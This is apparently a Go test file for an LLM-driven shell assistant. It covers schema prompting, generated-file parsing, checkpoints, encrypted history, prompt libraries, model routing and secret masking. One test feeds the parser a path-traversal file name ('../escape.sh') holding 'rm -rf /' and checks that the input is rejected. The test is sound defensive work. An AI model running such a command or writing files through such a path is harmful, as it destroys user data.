+	assert.True(t, isStrictSchema(schema))
+
+	// the first response is rejected, the second is in a code block
+	llm := &fakeLLM{responses: []string{
+		`{"name": "butterfish"}`,
+		"```json\n{\"name\": \"butterfish\", \"tags\": [\"shell\"]}\n```",
+	}}
+	out := &strings.Builder{}
+	butterfish := &ButterfishCtx{LLMClient: llm, Out: out}
+	request := &util.CompletionRequest{Prompt: "describe", Model: "gpt-4o", SystemMessage: "be brief"}
+
+	response, err := butterfish.schemaPrompt(request, schema)
+	assert.Nil(t, err)
+	assert.Equal(t, 2, llm.calls)
+	assert.Equal(t, response.Completion+"\n", out.String())
+	assert.Contains(t, request.Prompt, "does not match the schema")
+	assert.Contains(t, request.SystemMessage, `"required":["name","tags"]`)
+	assert.Equal(t, schema, request.ResponseSchema)
+
+	llm = &fakeLLM{responses: []string{"nope", "nope", "nope"}}
+	butterfish.LLMClient = llm
+	_, err = butterfish.schemaPrompt(&util.CompletionRequest{Model: "gpt-4o"}, schema)
+	assert.NotNil(t, err)
+	assert.Equal(t, schemaMaxAttempts, llm.calls)
+
+	schema.Required = []string{"name"}
+	assert.False(t, isStrictSchema(schema))
+}
+
+func TestParseGeneratedFiles(t *testing.T) {
+	files, err := parseGeneratedFiles("```go\npackage main\n```", "main.go", false)
+	assert.Nil(t, err)
+	assert.Equal(t, []GeneratedFile{{Path: "main.go", Content: "package main\n"}}, files)
+
+	response := "Here you go:\n=== FILE: cmd/main.go ===\n```go\npackage main\n```\n\n=== FILE: README.md ===\n# Demo\n"
+	files, err = parseGeneratedFiles(response, "demo", true)
+	assert.Nil(t, err)
+	assert.Equal(t, []GeneratedFile{
+		{Path: filepath.Join("demo", "cmd", "main.go"), Content: "package main\n"},
+		{Path: filepath.Join("demo", "README.md"), Content: "# Demo\n"},
+	}, files)
+
+	_, err = parseGeneratedFiles("=== FILE: ../escape.sh ===\nrm -rf /\n", "demo", true)
+	assert.NotNil(t, err)
+	_, err = parseGeneratedFiles("no markers here", "demo", true)
+	assert.NotNil(t, err)
+}
+
+func TestParseReviewResponse(t *testing.T) {
+	response := "1. Line 2 (high): $FILE is unquoted.\n\n**Corrected script:**\n```bash\n#!/bin/sh\nrm -- \"$FILE\"\n```\n"
+	issues, corrected := parseReviewResponse(response)
+	assert.Equal(t, "1. Line 2 (high): $FILE is unquoted.", issues)
+	assert.Equal(t, []string{"#!/bin/sh", "rm -- \"$FILE\""}, corrected)
+
+	hunks := DiffHunks([]string{"#!/bin/sh", "rm $FILE", ""}, append(corrected, ""), 3)
+	assert.Len(t, hunks, 1)
+
+	issues, corrected = parseReviewResponse("No issues found.")
+	assert.Equal(t, "No issues found.", issues)
+	assert.Nil(t, corrected)
+}
+
+func TestRefactorRevertPatch(t *testing.T) {
+	plan := &RefactorPlan{Changes: []RefactorChange{{Path: "a.go", Description: "rename"}}}
+	assert.Nil(t, validateRefactorPlan(plan, []string{"a.go", "b.go"}))
+	assert.NotNil(t, validateRefactorPlan(plan, []string{"b.go"}))
+	assert.NotNil(t, validateRefactorPlan(&RefactorPlan{}, []string{"a.go"}))
+
+	original := splitFileLines("package a\n\ntype Config struct{}\n\nvar c Config\n")
+	edited := splitFileLines("package a\n\ntype Settings struct{}\n\nvar c Settings\n")
+	file := &refactorFile{Path: "a.go", Original: original, Edited: edited}
+	file.Hunks = DiffHunks(original, edited, 3)
+
+	patch := refactorRevertPatch([]*refactorFile{file})
+	assert.Equal(t, `--- a/a.go
++++ b/a.go
+@@ -1,5 +1,5 @@
+ package a
+ 
+-type Settings struct{}
++type Config struct{}
+ 
+-var c Settings
++var c Config
+`, patch)
+	assert.Equal(t, "package a\n\ntype Settings struct{}\n\nvar c Settings\n",
+		joinFileLines(ApplyHunks(original, file.Hunks)))
+}
+
+func TestCheckpoints(t *testing.T) {
+	dir := t.TempDir()
+	store, err := NewCheckpointStore(filepath.Join(dir, "checkpoints"))
+	assert.Nil(t, err)
+
+	existing := filepath.Join(dir, "script.sh")
+	created := filepath.Join(dir, "new", "file.txt")
+	assert.Nil(t, os.WriteFile(existing, []byte("echo original\n"), 0755))
+
+	_, err = store.Save("edit", "first", []string{existing})
+	assert.Nil(t, err)
+	assert.Nil(t, os.WriteFile(existing, []byte("echo first\n"), 0644))
+
+	_, err = store.Save("generate", "second", []string{existing, created, existing})
+	assert.Nil(t, err)
+	assert.Nil(t, os.WriteFile(existing, []byte("echo second\n"), 0644))
+	assert.Nil(t, os.MkdirAll(filepath.Dir(created), 0755))
+	assert.Nil(t, os.WriteFile(created, []byte("new\n"), 0644))
+
+	checkpoints, err := store.List()
+	assert.Nil(t, err)
+	assert.Len(t, checkpoints, 2)
+	assert.Equal(t, "second", checkpoints[0].Description)
+	assert.Len(t, checkpoints[0].Files, 2)
+
+	// undo the most recent change, the new file is removed
+	assert.Nil(t, store.Restore(checkpoints[0]))
+	content, _ := os.ReadFile(existing)
+	assert.Equal(t, "echo first\n", string(content))
+	assert.NoFileExists(t, created)
+
+	checkpoints, err = store.List()
+	assert.Nil(t, err)
+	assert.Len(t, checkpoints, 1)
+	assert.Nil(t, store.Restore(checkpoints[0]))
+	content, _ = os.ReadFile(existing)
+	assert.Equal(t, "echo original\n", string(content))
+	info, _ := os.Stat(existing)
+	assert.Equal(t, os.FileMode(0755), info.Mode().Perm())
+
+	// directories aren't saved but are reported
+	checkpoint, err := store.Save("goal", "rm -r", []string{dir, existing})
+	assert.Nil(t, err)
+	assert.Equal(t, []string{dir}, checkpoint.Skipped)
+	assert.Len(t, checkpoint.Files, 1)
+
+	// neither are files too large to copy
+	large := filepath.Join(dir, "large.bin")
+	assert.Nil(t, os.WriteFile(large, nil, 0644))
+	assert.Nil(t, os.Truncate(large, checkpointMaxFileBytes+1))
+	checkpoint, err = store.Save("goal", "rm large.bin", []string{large})
+	assert.Nil(t, err)
+	assert.Equal(t, []string{large}, checkpoint.Skipped)
+	assert.Empty(t, checkpoint.Files)
+}
+
+func TestCommandWriteTargets(t *testing.T) {
+	assert.Equal(t, []string{"out.txt"}, commandWriteTargets("echo hi > out.txt"))
+	assert.Equal(t, []string{"log"}, commandWriteTargets("make 2>>log >/dev/null 2>&1"))
+	assert.Equal(t, []string{"a.go", "b.go"}, commandWriteTargets("sed -i 's/a > b/c/' a.go b.go"))
+	assert.Equal(t, []string{"dest", "src"}, commandWriteTargets("ls && mv -f src dest"))
+	assert.Equal(t, []string{"x.txt", "my file"}, commandWriteTargets(`cat a | tee x.txt; rm -rf "my file"`))
+	assert.Equal(t, []string{"all.log"}, commandWriteTargets("./build &>all.log"))
+	assert.Empty(t, commandWriteTargets("grep -r 'a>b' ."))
+}
+
+func TestSyncPrompts(t *testing.T) {
+	dir := t.TempDir()
+	team := `
+- name: review_pr
+  prompt: Review this PR {diff}
+- name: shell_system_message
+  prompt: Team system message
+- name: custom
+  prompt: Team custom
+`
+	assert.Nil(t, os.WriteFile(filepath.Join(dir, "team.yaml"), []byte(team), 0644))
+	assert.Nil(t, os.WriteFile(filepath.Join(dir, "README.md"), []byte("not prompts"), 0644))
+	prompts, err := LoadSyncedPrompts(dir)
+	assert.Nil(t, err)
+	assert.Len(t, prompts, 3)
+
+	library := prompt.NewPromptLibrary(filepath.Join(dir, "prompts.yaml"), false, io.Discard)
+	library.Prompts = []prompt.Prompt{
+		{Name: "shell_system_message", Prompt: "Default", OkToReplace: true},
+		{Name: "custom", Prompt: "Mine", OkToReplace: false},
+	}
+	added, updated, skipped := library.SyncPrompts(prompts, "git@example.com:prompts.git")
+	assert.Equal(t, []string{"review_pr"}, added)
+	assert.Equal(t, []string{"shell_system_message"}, updated)
+	assert.Equal(t, []string{"custom"}, skipped)
+
+	// the defaults don't overwrite synced prompts, a later sync does
+	library.ReplacePrompts([]prompt.Prompt{{Name: "shell_system_message", Prompt: "Default", OkToReplace: true}})
+	index := library.ContainsPromptNamed("shell_system_message")
+	assert.Equal(t, "Team system message", library.Prompts[index].Prompt)
+
+	prompts[1].Prompt = "New team system message"
+	_, updated, _ = library.SyncPrompts(prompts, "git@example.com:prompts.git")
+	assert.Equal(t, []string{"shell_system_message"}, updated)
+	assert.Equal(t, "New team system message", library.Prompts[index].Prompt)
+}
+
+func TestPromptFieldDefaults(t *testing.T) {
+	dir := t.TempDir()
+	library := prompt.NewPromptLibrary(filepath.Join(dir, "prompts.yaml"), false, io.Discard)
+	yaml := `
+- name: review_code
+  prompt: Review in a {tone} tone, at most {max_issues} issues, {tone}. {code}
+  oktoreplace: false
+  fields:
+  - name: tone
+    default: friendly
+    enum: [friendly, terse]
+  - name: max_issues
+    type: int
+    default: "5"
+  - name: unused
+    default: x
+`
+	assert.Nil(t, os.WriteFile(library.Path, []byte(yaml), 0644))
+	assert.Nil(t, library.Load())
+
+	result, err := library.GetPrompt("review_code", "code", "x := 1")
+	assert.Nil(t, err)
+	assert.Equal(t, "Review in a friendly tone, at most 5 issues, friendly. x := 1", result)
+
+	result, err = library.GetPrompt("review_code", "code", "x", "tone", "terse", "max_issues", "2")
+	assert.Nil(t, err)
+	assert.Equal(t, "Review in a terse tone, at most 2 issues, terse. x", result)
+
+	_, err = library.GetPrompt("review_code", "code", "x", "tone", "rude")
+	assert.ErrorContains(t, err, "must be one of friendly, terse")
+	_, err = library.GetPrompt("review_code", "code", "x", "max_issues", "many")
+	assert.ErrorContains(t, err, "must be of type int")
+	_, err = library.GetPrompt("review_code")
+	assert.ErrorContains(t, err, "Missing fields {code}")
+
+	// fields round trip through the yaml file
+	assert.Nil(t, library.Save())
+	assert.Nil(t, library.Load())
+	assert.Equal(t, "5", *library.Prompts[0].Fields[1].Default)
+}
+
+func TestInterpolateBraces(t *testing.T) {
+	// escaped braces are literal
+	result, err := prompt.Interpolate(`Reply as \{"answer": {answer}\}`, "answer", "42")
+	assert.Nil(t, err)
+	assert.Equal(t, `Reply as {"answer": 42}`, result)
+
+	// with {{field}} single braces are literal
+	result, err = prompt.Interpolate(`Run {{cmd}} on {a,b}.txt, reply as {"ok": true}`, "cmd", "cat")
+	assert.Nil(t, err)
+	assert.Equal(t, `Run cat on {a,b}.txt, reply as {"ok": true}`, result)
+	assert.Equal(t, []string{"cmd"}, prompt.FieldNames(`{{cmd}} {x} {{cmd}}`))
+
+	// values aren't read as fields
+	result, err = prompt.Interpolate("{a} {b}", "a", "{b}", "b", "2")
+	assert.Nil(t, err)
+	assert.Equal(t, "{b} 2", result)
+
+	// filled values stay literal when the rest is interpolated
+	filled := prompt.FillFields("{status} {goal}", func(name string) (string, bool) {
+		return "{main}", name == "status"
+	})
+	result, err = prompt.Interpolate(filled, "goal", "ship")
+	assert.Nil(t, err)
+	assert.Equal(t, "{main} ship", result)
+}
+
+func TestEncryptedHistory(t *testing.T) {
+	dir := t.TempDir()
+	key, _ := util.NewCipherKey()
+	cipher, err := util.NewCipher(key)
+	assert.Nil(t, err)
+
+	// a record written before encryption was turned on
+	history, err := NewCommandHistory(filepath.Join(dir, "history.jsonl"))
+	assert.Nil(t, err)
+	assert.Nil(t, history.Append(&CommandRecord{Command: "ls"}))
+
+	history.Cipher = cipher
+	assert.Nil(t, history.Append(&CommandRecord{Command: "export TOKEN=secret"}))
+	data, _ := os.ReadFile(history.Path)
+	assert.NotContains(t, string(data), "secret")
+
+	records, err := history.Load()
+	assert.Nil(t, err)
+	assert.Len(t, records, 2)
+	assert.Equal(t, "export TOKEN=secret", records[1].Command)
+
+	history.Cipher = nil
+	_, err = history.Load()
+	assert.NotNil(t, err)
+
+	path := filepath.Join(dir, "session.json")
+	transcript := &Transcript{Shell: "bash", Entries: []TranscriptEntry{{Type: transcriptToolOutput, Content: "secret"}}}
+	assert.Nil(t, transcript.Save(path, cipher))
+	data, _ = os.ReadFile(path)
+	assert.NotContains(t, string(data), "secret")
+	loaded, err := LoadTranscript(path, cipher)
+	assert.Nil(t, err)
+	assert.Equal(t, transcript.Entries, loaded.Entries)
+
+	// checkpoints and learned fixes
+	checkpoints := &CheckpointStore{Dir: filepath.Join(dir, "checkpoints"), Cipher: cipher}
+	envFile := filepath.Join(dir, ".env")
+	assert.Nil(t, os.WriteFile(envFile, []byte("TOKEN=secret\n"), 0600))
+	_, err = checkpoints.Save("goal", "sed -i s/secret/x/ .env", []string{envFile})
+	assert.Nil(t, err)
+	assert.Nil(t, os.WriteFile(envFile, []byte("TOKEN=x\n"), 0600))
+	filepath.WalkDir(checkpoints.Dir, func(path string, entry fs.DirEntry, err error) error {
+		if err == nil && !entry.IsDir() {
+			data, _ := os.ReadFile(path)
+			assert.NotContains(t, string(data), "secret")
+		}
+		return nil
+	})
+	saved, err := checkpoints.List()
+	assert.Nil(t, err)
+	assert.Len(t, saved, 1)
+	assert.Nil(t, checkpoints.Restore(saved[0]))
+	data, _ = os.ReadFile(envFile)
+	assert.Equal(t, "TOKEN=secret\n", string(data))
+
+	fixes := &FixKnowledgeBase{Path: filepath.Join(dir, "fixes.json"), Cipher: cipher}
+	assert.Nil(t, fixes.Record("abc", "curl", "401 for token secret", "export TOKEN=secret"))
+	data, _ = os.ReadFile(fixes.Path)
+	assert.NotContains(t, string(data), "secret")
+	known, err := fixes.Lookup("abc")
+	assert.Nil(t, err)
+	assert.Equal(t, "export TOKEN=secret", known.Fix)
+
+	// only a missing key means one should be created
+	assert.True(t, keychainNotFound("darwin", 44, "security: SecKeychainSearchCopyNext: The specified item could not be found in the keychain."))
+	assert.False(t, keychainNotFound("darwin", 51, "security: User interaction is not allowed."))
+	assert.True(t, keychainNotFound("linux", 1, ""))
+	assert.False(t, keychainNotFound("linux", 1, "Cannot autolaunch D-Bus without X11 $DISPLAY\n"))
+}
+
+func TestStatsReport(t *testing.T) {
+	stats, err := NewStatsLog(filepath.Join(t.TempDir(), "stats.jsonl"))
+	assert.Nil(t, err)
+
+	day1 := time.Date(2026, 3, 10, 12, 0, 0, 0, time.Local)
+	day2 := day1.AddDate(0, 0, 1)
+	stats.Record(StatsEvent{Time: day1.AddDate(0, 0, -30), Type: statsEventAutosuggestShown})
+	for i := 1; i <= 10; i++ {
+		stats.Record(StatsEvent{Time: day1, Type: statsEventLLM, Model: "gpt-4o",
+			PromptTokens: 100, CompletionTokens: 10, Cost: 0.01, LatencyMs: int64(i * 100)})
+	}
+	stats.Record(StatsEvent{Time: day2, Type: statsEventLLM, Model: "gpt-4o-mini", PromptTokens: 50, LatencyMs: 200})
+	stats.Record(StatsEvent{Time: day2, Type: statsEventAutosuggestShown})
+	stats.Record(StatsEvent{Time: day2, Type: statsEventAutosuggestShown})
+	stats.Record(StatsEvent{Time: day2, Type: statsEventAutosuggestAccepted})
+	stats.Record(StatsEvent{Time: day2, Type: statsEventCommandGenerated})
+
+	events, err := stats.Load(day1.AddDate(0, 0, -1))
+	assert.Nil(t, err)
+	assert.Len(t, events, 15)
+
+	report := BuildStatsReport(events)
+	assert.Equal(t, 2, report.AutosuggestShown)
+	assert.Equal(t, 1, report.AutosuggestAccepted)
+	assert.Equal(t, 1, report.CommandsGenerated)
+	assert.Equal(t, 0, report.CommandsAccepted)
+	assert.Equal(t, 1150, report.TotalTokens)
+	assert.InDelta(t, 0.1, report.TotalCost, 0.0001)
+
+	assert.Len(t, report.Usage, 2)
+	assert.Equal(t, "2026-03-10", report.Usage[0].Day)
+	assert.Equal(t, 10, report.Usage[0].Calls)
+	assert.Equal(t, "gpt-4o-mini", report.Usage[1].Model)
+
+	assert.Equal(t, "gpt-4o", report.Latency[0].Model)
+	assert.Equal(t, 500*time.Millisecond, report.Latency[0].P50)
+	assert.Equal(t, 900*time.Millisecond, report.Latency[0].P90)
+	assert.Equal(t, time.Second, report.Latency[0].P99)
+	assert.Contains(t, report.String(), "2 shown, 1 accepted (50%)")
+}
+
+func TestPromptUsage(t *testing.T) {
+	dir := t.TempDir()
+	library := prompt.NewPromptLibrary(filepath.Join(dir, "prompts.yaml"), false, io.Discard)
+	library.Usage = prompt.NewUsageLog(prompt.UsagePath(library.Path))
+	assert.Equal(t, filepath.Join(dir, "prompts_usage.json"), library.Usage.Path)
+	library.ReplacePrompts([]prompt.Prompt{
+		{Name: "greet", Prompt: "Hello {name}"},
+		{Name: "unused", Prompt: "Nobody calls this"},
+		{Name: "verbose", Prompt: "Write an essay"},
+	})
+
+	// looking up a prompt isn't a use, e.g. an autosuggest that's canceled
+	_, err := library.GetPrompt("greet", "name", "Ada")
+	assert.Nil(t, err)
+
+	// uses and responses are recorded when a request built from the prompts
+	// is sent
+	llm := NewUsageTrackingLLM(&fakeLLM{responses: []string{"hi", "hello", "a very long essay indeed"}}, NewSessionUsage())
+	llm.Prompts = library.Usage
+	_, err = llm.Completion(&util.CompletionRequest{Model: "gpt-4o", PromptName: "greet", SystemPromptName: "verbose"})
+	assert.Nil(t, err)
+	_, err = llm.Completion(&util.CompletionRequest{Model: "gpt-4o", PromptName: "greet"})
+	assert.Nil(t, err)
+	_, err = llm.Completion(&util.CompletionRequest{Model: "gpt-4o", PromptName: "verbose"})
+	assert.Nil(t, err)
+
+	// counts are kept in memory until they're flushed
+	assert.NoFileExists(t, library.Usage.Path)
+	assert.Nil(t, library.Usage.Flush())
+	assert.FileExists(t, library.Usage.Path)
+	usage, err := library.Usage.Load()
+	assert.Nil(t, err)
+	assert.Equal(t, 2, usage["greet"].Invocations)
+	assert.Equal(t, 2, usage["greet"].Responses)
+	assert.Equal(t, 2, usage["verbose"].Invocations)
+	assert.Nil(t, usage["unused"])
+	assert.Greater(t, usage["verbose"].AverageResponseTokens(), usage["greet"].AverageResponseTokens())
+
+	report := BuildPromptStatsReport(library.Prompts, usage, "uses")
+	lines := strings.Split(report, "\n")
+	assert.True(t, strings.HasPrefix(lines[1], "greet "))
+	assert.Contains(t, lines[3], "never")
+	assert.Contains(t, report, "1 of 3 prompts have never been used")
+
+	report = BuildPromptStatsReport(library.Prompts, usage, "tokens")
+	assert.True(t, strings.HasPrefix(strings.Split(report, "\n")[1], "verbose "))
+}
+
+func TestRoutingLLM(t *testing.T) {
+	config := &RoutingConfig{
+		Fast:   "gpt-4o-mini",
+		Strong: "gpt-4o",
+		Rules:  map[string]string{TaskShellPrompt: "strong", TaskGencmd: "o3-mini"},
+	}
+	assert.Nil(t, config.Validate())
+	router := NewRoutingLLM(&fakeLLM{}, config)
+
+	route := func(task, model string) string {
+		response, err := router.Completion(&util.CompletionRequest{Task: task, Model: model})
+		assert.Nil(t, err)
+		return response.Completion
+	}
+	assert.Equal(t, "gpt-4o-mini", route(TaskAutosuggest, "gpt-3.5-turbo-instruct"))
+	assert.Equal(t, "gpt-4o", route(TaskSummarize, "gpt-3.5-turbo"))
+	assert.Equal(t, "gpt-4o", route(TaskShellPrompt, "gpt-4o-mini"))
+	assert.Equal(t, "o3-mini", route(TaskGencmd, "gpt-4o"))
+	// tasks without a rule and untagged requests keep their model
+	assert.Equal(t, "gpt-4-turbo", route(TaskGoalMode, "gpt-4-turbo"))
+	assert.Equal(t, "gpt-4-turbo", route("", "gpt-4-turbo"))
+
+	assert.NotNil(t, (&RoutingConfig{}).Validate())
+	assert.NotNil(t, (&RoutingConfig{Fast: "a", Rules: map[string]string{"summarise": "fast"}}).Validate())
+	assert.NotNil(t, (&RoutingConfig{Fast: "a", Rules: map[string]string{TaskSummarize: "strong"}}).Validate())
+}
+
+func TestSpeculativeAutosuggest(t *testing.T) {
+	// the model repeats the command, the user typed ahead
+	remainder, ok := autosuggestRemainder("git", "git status --short", "git st", true)
+	assert.True(t, ok)
+	assert.Equal(t, "atus --short", remainder)
+	_, ok = autosuggestRemainder("git", "git status", "git co", true)
+	assert.False(t, ok)
+	// prompts can be continued without repeating
+	remainder, ok = autosuggestRemainder("How do I", " list files?", "How do I li", false)
+	assert.True(t, ok)
+	assert.Equal(t, "st files?", remainder)
+	_, ok = autosuggestRemainder("How do I", " list files?", "How do I li", true)
+	assert.False(t, ok)
+
+	ctx, cancel := context.WithCancel(context.Background())
+	pending := &pendingAutosuggest{Ctx: ctx, Command: "git", PromptName: "p"}
+	// still waiting out the delay
+	assert.False(t, pending.CanContinue("git s", "p", true))
+	pending.start()
+	assert.True(t, pending.CanContinue("git s", "p", true))
+	pending.Write([]byte("prediction: git st"))
+	assert.True(t, pending.CanContinue("git s", "p", true))
+	assert.True(t, pending.CanContinue("git status", "p", true))
+	assert.False(t, pending.CanContinue("git c", "p", true))
+	assert.False(t, pending.CanContinue("gi", "p", true))
+	assert.False(t, pending.CanContinue("git s", "other", true))
+	pending.Write([]byte("ash\n"))
+	assert.False(t, pending.CanContinue("git stashed", "p", true))
+	cancel()
+	assert.False(t, pending.CanContinue("git s", "p", true))
+	assert.False(t, (*pendingAutosuggest)(nil).CanContinue("git s", "p", true))
+}
+
+func TestBatchResume(t *testing.T) {
+	assert.Equal(t, "logs", globBaseDir("logs/*.txt"))
+	assert.Equal(t, "logs", globBaseDir("logs/*/app.txt"))
+	assert.Equal(t, ".", globBaseDir("*.txt"))
+	assert.Equal(t, filepath.Join("out", "a", "app.txt.out"), batchOutputPath("out", "logs", filepath.Join("logs", "a", "app.txt")))
+
+	dir := t.TempDir()
+	input := filepath.Join(dir, "in", "a.txt")
+	assert.Nil(t, os.MkdirAll(filepath.Dir(input), 0755))
+	assert.Nil(t, os.WriteFile(input, []byte("some log"), 0644))
+	outDir := filepath.Join(dir, "out")
+	assert.Nil(t, os.MkdirAll(outDir, 0755))
+
+	llm := &fakeLLM{responses: []string{" summary "}}
+	butterfish := &ButterfishCtx{
+		LLMClient:     llm,
+		PromptLibrary: prompt.NewPromptLibrary(filepath.Join(dir, "prompts.yaml"), false, io.Discard),
+	}
+	progress, err := loadBatchProgress(outDir)
+	assert.Nil(t, err)
+	run := &batchRun{
+		Template: "Summarize {content}",
+		Request:  util.CompletionRequest{Ctx: context.Background(), Model: "gpt-4o"},
+		BaseDir:  filepath.Join(dir, "in"),
+		OutDir:   outDir,
+		Progress: progress,
+		Throttle: &batchThrottle{},
+	}
+
+	result, err := butterfish.runBatchInput(run, input)
+	assert.Nil(t, err)
+	assert.Equal(t, batchDone, result)
+	output, err := os.ReadFile(filepath.Join(outDir, "a.txt.out"))
+	assert.Nil(t, err)
+	assert.Equal(t, "summary\n", string(output))
+
+	// a new run picks up the progress file and skips the finished input
+	run.Progress, err = loadBatchProgress(outDir)
+	assert.Nil(t, err)
+	result, err = butterfish.runBatchInput(run, input)
+	assert.Nil(t, err)
+	assert.Equal(t, batchSkipped, result)
+	assert.Equal(t, 1, llm.calls)
+
+	// changing the input means it's run again
+	assert.Nil(t, os.WriteFile(input, []byte("another log"), 0644))
+	result, err = butterfish.runBatchInput(run, input)
+	assert.Nil(t, err)
+	assert.Equal(t, batchDone, result)
+	assert.Equal(t, 2, llm.calls)
+
+	// a pause is cut short when the run is cancelled
+	throttle := &batchThrottle{pauseUntil: time.Now().Add(time.Hour)}
+	ctx, cancel := context.WithCancel(context.Background())
+	cancel()
+	assert.Equal(t, context.Canceled, throttle.Wait(ctx))
+	assert.Nil(t, (&batchThrottle{}).Wait(context.Background()))
+}
+
+func TestConversationBranches(t *testing.T) {
+	history := NewShellHistory()
+	history.Append(historyTypePrompt, "why is the build slow")
+	branches := NewConversationBranches(history)
+
+	branch, err := branches.Fork("cache")
+	assert.Nil(t, err)
+	assert.Equal(t, "cache", branches.Current)
+	_, err = branches.Fork("cache")
+	assert.NotNil(t, err)
+
+	// appending in the branch doesn't change the main history
+	branch.Append(historyTypePrompt, " with the cache")
+	branch.Append(historyTypeLLMOutput, "the cache is cold")
+	assert.Equal(t, 1, len(history.Blocks))
+	assert.Equal(t, "why is the build slow", history.Blocks[0].Content.String())
+	assert.Equal(t, []string{"main", "cache"}, branches.Names())
+
+	parent, left, err := branches.Return()
+	assert.Nil(t, err)
+	assert.Equal(t, "main", parent.Name)
+	assert.Equal(t, history, parent.History)
+	assert.Equal(t, "llm_output: the cache is cold\n", left.NewEntries())
+	_, _, err = branches.Return()
+	assert.NotNil(t, err)
+
+	switched, err := branches.Switch("cache")
+	assert.Nil(t, err)
+	assert.Equal(t, branch, switched)
+	_, err = branches.Switch("nope")
+	assert.NotNil(t, err)
+}
+
+func TestPins(t *testing.T) {
+	history := NewShellHistory()
+	assert.Equal(t, "", history.LastAnswer())
+	history.Append(historyTypeLLMOutput, "use port 8080\r\n")
+	history.Append(historyTypeShellInput, "ls")
+	assert.Equal(t, "use port 8080", history.LastAnswer())
+
+	assert.Equal(t, "", pinsSystemNote(nil))
+	note := pinsSystemNote([]*Pin{{Source: "answer", Content: "use port 8080"}})
+	assert.Contains(t, note, "Pinned answer:\nuse port 8080")
+
+	path := filepath.Join(t.TempDir(), "constraints.txt")
+	assert.Nil(t, os.WriteFile(path, []byte("never touch prod\n"), 0644))
+	pin, err := loadPinFile(path)
+	assert.Nil(t, err)
+	assert.Equal(t, "never touch prod", pin.Content)
+
+	assert.Equal(t, "a b", pinPreview("a\n  b"))
+	assert.Equal(t, pinPreviewLength+3, len(pinPreview(strings.Repeat("x", 100))))
+}
+
+func TestScratchpadTools(t *testing.T) {
+	ctx := context.Background()
+	dir := t.TempDir()
+	assert.Equal(t, filepath.Join(dir, scratchpadFile), scratchpadPath(ctx, dir))
+
+	output, err := readScratchpadTool(ctx, dir)
+	assert.Nil(t, err)
+	assert.Contains(t, output, "is empty")
+
+	_, err = writeScratchpadTool(ctx, dir, `{"content": "# Plan\n- [x] step one"}`)
+	assert.Nil(t, err)
+	output, err = readScratchpadTool(ctx, dir)
+	assert.Nil(t, err)
+	assert.Equal(t, "# Plan\n- [x] step one\n", output)
+
+	params, _ := json.Marshal(scratchpadParams{Content: strings.Repeat("x", toolMaxScratchBytes+1)})
+	_, err = writeScratchpadTool(ctx, dir, string(params))
+	assert.NotNil(t, err)
+}
+
+func TestProjectContextWithoutIndex(t *testing.T) {
+	ctx := context.Background()
+	dir := t.TempDir()
+	assert.Equal(t, dir, projectRoot(ctx, dir))
+
+	butterfish := &ButterfishCtx{LLMClient: &fakeLLM{}}
+	excerpts, err := butterfish.projectContext(ctx, dir, "run the tests")
+	assert.Nil(t, err)
+	assert.Equal(t, "", excerpts)
+}
+
+func TestDiscoverTasks(t *testing.T) {
+	dir := t.TempDir()
+	makefile := "VERSION := 1.0\n\n# Build the binary\n.PHONY: build\nbuild: deps\n\tgo build ./...\n\ntest: ## Run the tests\n\tgo test ./...\n\nbin/app: main.go\n\tgo build -o bin/app\n\n%.o: %.c\n\tcc -c $<\n"
+	assert.Nil(t, os.WriteFile(filepath.Join(dir, "Makefile"), []byte(makefile), 0644))
+	pkg := `{"name": "app", "scripts": {"test": "jest", "dev": "vite"}}`
+	assert.Nil(t, os.WriteFile(filepath.Join(dir, "package.json"), []byte(pkg), 0644))
+	assert.Nil(t, os.WriteFile(filepath.Join(dir, "yarn.lock"), []byte(""), 0644))
+	justfile := "set shell := [\"bash\", \"-c\"]\nalias b := build\n\n# Deploy to staging\ndeploy env=\"staging\": build\n    ./deploy.sh {{env}}\n\n[private]\nsetup:\n    true\n\n_helper:\n    true\n"
+	assert.Nil(t, os.WriteFile(filepath.Join(dir, "justfile"), []byte(justfile), 0644))
+
+	tasks, err := DiscoverTasks(dir)
+	assert.Nil(t, err)
+	commands := []string{}
+	for _, task := range tasks {
+		commands = append(commands, task.Command)
+	}
+	assert.Equal(t, []string{"make build", "make test", "yarn run dev", "yarn run test", "just deploy"}, commands)
+	assert.Equal(t, "Build the binary", tasks[0].Description)
+	assert.Equal(t, "Run the tests", tasks[1].Description)
+	assert.Equal(t, "Deploy to staging", tasks[4].Description)
+	assert.Contains(t, formatTasks(tasks), "yarn run test  (package.json) jest\n")
+
+	tasks, err = DiscoverTasks(t.TempDir())
+	assert.Nil(t, err)
+	assert.Equal(t, 0, len(tasks))
+}
+
+func TestEnvContextProvider(t *testing.T) {
+	dir := t.TempDir()
+	assert.Nil(t, os.WriteFile(filepath.Join(dir, ".env"), []byte("DATABASE_URL=postgres://secret\nPORT=3000\n"), 0644))
+	t.Setenv("BUTTERFISH_TEST_TOKEN", "abc123")
+	t.Setenv("BUTTERFISH_TEST_REGION", "us-east-1")
+	env := NewContextEnv(context.Background(), "bash", func() string { return dir })
+
+	config := &EnvContextConfig{Unmasked: []string{"PORT", "BUTTERFISH_TEST_REG*"}}
+	assert.Nil(t, config.Validate())
+	output, err := config.Provider(env)
+	assert.Nil(t, err)
+	assert.Contains(t, output, "Variables in .env:\nDATABASE_URL=****\nPORT=3000\n")
+	assert.Contains(t, output, "BUTTERFISH_TEST_REGION=us-east-1\n")
+	assert.Contains(t, output, "BUTTERFISH_TEST_TOKEN=****\n")
+	assert.NotContains(t, output, "secret")
+
+	// the registered provider uses the settings in the env, or the defaults
+	env.EnvContext = config
+	output, err = envVarsContextProvider(env)
+	assert.Nil(t, err)
+	assert.Contains(t, output, "PORT=3000\n")
+	env.EnvContext = nil
+	output, err = envVarsContextProvider(env)
+	assert.Nil(t, err)
+	assert.Contains(t, output, "PORT=****\n")
+
+	assert.NotNil(t, (&EnvContextConfig{Unmasked: []string{"[A-"}}).Validate())
+}
+
+func TestShellPipeline(t *testing.T) {
+	response := `{"stages": [
+		{"command": "find . -name '*.go'", "explanation": "List go files"},
+		{"command": "| xargs grep -l context ", "explanation": "Keep those that mention context"},
+		{"command": "", "explanation": "Empty stages are dropped"},
+		{"command": "head -10", "explanation": "Keep the first 10"}]}`
+	pipeline, err := parsePipeline("go files with context", response)
+	assert.Nil(t, err)
+	assert.Len(t, pipeline.Stages, 3)
+	assert.Equal(t, "find . -name '*.go'", pipeline.Command(1))
+	assert.Equal(t, "find . -name '*.go' | xargs grep -l context | head -10", pipeline.Command(3))
+
+	pipeline.Typed = 2
+	lines := strings.Split(pipeline.String(), "\n")
+	assert.Equal(t, "*2. xargs grep -l context", lines[2])
